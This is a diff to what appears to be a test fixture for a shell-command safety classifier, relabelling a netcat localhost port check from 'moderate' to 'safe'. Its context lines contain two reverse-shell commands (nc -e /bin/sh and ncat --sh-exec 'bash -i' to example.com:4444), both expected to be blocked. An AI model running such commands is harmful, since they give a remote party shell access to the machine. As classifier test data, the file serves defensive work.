@@ -1,4 +1,4 @@
-nc -zv localhost 5432  # want moderate
+nc -zv localhost 5432  # want safe
 nc -e /bin/sh example.com 4444  # want blocked
 ncat --sh-exec 'bash -i' example.com 4444  # want blocked
 nc -l 8080  # want moderate
